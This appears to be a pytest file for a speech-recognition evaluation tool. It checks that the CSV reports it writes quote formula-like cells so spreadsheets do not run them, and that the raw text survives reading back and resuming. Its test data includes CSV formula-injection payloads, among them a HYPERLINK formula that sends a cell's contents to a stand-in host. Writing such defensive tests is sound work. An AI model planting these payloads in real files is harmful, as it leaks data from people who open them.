"""The CSV files a run writes for people (results.csv, summary.csv, compare.csv) open in a spreadsheet without running
a reference, a hypothesis or a group value as a formula; the store, and so a resumed run, keeps the raw text."""

from __future__ import annotations

import csv
import shutil

import numpy as np
import pandas as pd
import pytest

from evaluation.cli import main
from evaluation.spreadsheet import as_text, read_csv, read_rows, safe_frame, unmark, write_csv
from evaluation.store import Store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Activated")',
    "+cmd",
    "-2+3 added",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted once: quoted again, so that unmark gives it back as it was
]
PLAIN = ["Activated.", "a - b", "", "'tis", "1+1", " =1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_marked_as_text_and_unmark_gives_it_back(text):
    assert as_text(text) == "'" + text and unmark(as_text(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_cells_are_left_as_they_are(text):
    assert as_text(text) == text and unmark(text) == text


def test_numbers_stay_numbers_and_a_frame_without_formulas_is_written_byte_for_byte(tmp_path):
    frame = pd.DataFrame(
        {"id": ["a", "b"], "snr_db": [-5.0, 10.0], "errors": [-1, 2], "runaway": [False, True], "note": [None, "x"]}
    )
    write_csv(frame, tmp_path / "safe.csv")
    frame.to_csv(tmp_path / "plain.csv", index=False)
    assert (tmp_path / "safe.csv").read_bytes() == (tmp_path / "plain.csv").read_bytes()
    marked = safe_frame(frame.assign(id=["-a", "=b"]).rename(columns={"note": "=note"}))
    assert list(marked["id"]) == ["'-a", "'=b"] and list(marked.columns)[-1] == "'=note"
    assert list(marked["snr_db"]) == [-5.0, 10.0] and list(marked["errors"]) == [-1, 2]


def test_read_csv_and_read_rows_give_back_what_write_csv_was_given(tmp_path):
    """A test or script reading results.csv with pandas saw '-2 + 3 for the hypothesis -2 + 3 and scored the '."""
    frame = pd.DataFrame(
        {"id": ["-a", "b"], "hypothesis": ["- 2 + 3", "'=x"], "snr_db": [-5.0, 10.0], "=note": [None, "@y"]}
    )
    write_csv(frame, tmp_path / "r.csv")
    back = read_csv(tmp_path / "r.csv")
    assert list(back.columns) == list(frame.columns)
    assert list(back["id"]) == ["-a", "b"] and list(back["hypothesis"]) == ["- 2 + 3", "'=x"]
    assert list(back["snr_db"]) == [-5.0, 10.0] and back["=note"].isna()[0] and back["=note"][1] == "@y"
    rows = read_rows(tmp_path / "r.csv")
    assert [(r["id"], r["hypothesis"], r["=note"]) for r in rows] == [("-a", "- 2 + 3", ""), ("b", "'=x", "@y")]
    # a frame that repeats a column name is marked by place (it raised, and a run crashed writing results.csv)
    twice = safe_frame(pd.DataFrame([["-a", 1.0, "=b"]], columns=["x", "n", "x"]))
    assert twice.values.tolist() == [["'-a", 1.0, "'=b"]]


@pytest.fixture(scope="module")
def formula_set(tmp_path_factory, real_set):
    """Two real prompts whose references and accents start like formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    shutil.copy(real_set / "audio/en/activated.wav", folder / "activated.wav")
    shutil.copy(real_set / "audio/en/added.wav", folder / "added.wav")
    rows = [("activated.wav", FORMULAS[0], "@SUM(1+1)"), ("added.wav", "-2+3 added", "+cmd")]
    with open(folder / "metadata.csv", "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([("file_name", "text", "accent"), *rows])
    return folder


def test_a_run_writes_formula_like_text_as_text_and_keeps_it_raw_in_the_store(formula_set, tmp_path, fw_backend):
    args = ["run", "--dataset", str(formula_set), "--data-dir", str(tmp_path / "data"), "--quiet"]
    assert main([*args, "--run-id", "a", "--out", str(tmp_path / "a")]) == 0
    with open(tmp_path / "a" / "results.csv", newline="", encoding="utf-8") as f:
        rows = {r["id"]: r for r in csv.DictReader(f)}
    assert rows["activated"]["reference"] == "'" + FORMULAS[0] and rows["added"]["reference"] == "'-2+3 added"
    assert (rows["activated"]["accent"], rows["added"]["accent"]) == ("'@SUM(1+1)", "'+cmd")
    assert unmark(rows["activated"]["reference"]) == FORMULAS[0]
    assert rows["activated"]["hypothesis"] == "activated." and rows["added"]["wer"] == "0.6666666666666666"
    assert set(pd.read_csv(tmp_path / "a" / "summary.csv")["accent"]) == {"'@SUM(1+1)", "'+cmd"}
    # what a script reads back with read_csv / read_rows is the text as it was given
    assert set(read_csv(tmp_path / "a" / "summary.csv")["accent"]) == {"@SUM(1+1)", "+cmd"}
    assert set(read_csv(tmp_path / "a" / "results.csv")["reference"]) == {FORMULAS[0], "-2+3 added"}
    back = {r["id"]: r for r in read_rows(tmp_path / "a" / "results.csv")}
    assert back["added"]["reference"] == "-2+3 added" and back["added"]["accent"] == "+cmd"
    assert back["added"]["wer"] == rows["added"]["wer"]  # numbers as they were written
    stored = Store(tmp_path / "data").runs.run_results("a")
    assert set(stored["reference"]) == {FORMULAS[0], "-2+3 added"}  # what a resume and the page read
    # resumed from the store: the same bytes again
    assert main([*args, "--run-id", "a", "--out", str(tmp_path / "again")]) == 0
    for name in ("results.csv", "summary.csv"):
        assert (tmp_path / "again" / name).read_bytes() == (tmp_path / "a" / name).read_bytes()
    assert main([*args, "--run-id", "b", "--out", str(tmp_path / "b")]) == 0
    assert main(["compare", "a", "b", "--data-dir", str(tmp_path / "data"), "--out", str(tmp_path / "cmp")]) == 0
    compared = pd.read_csv(tmp_path / "cmp" / "compare.csv", keep_default_na=False)
    assert {"'@SUM(1+1)", "'+cmd"} <= set(compared["accent"]) and np.isfinite(compared["wer_a"]).all()
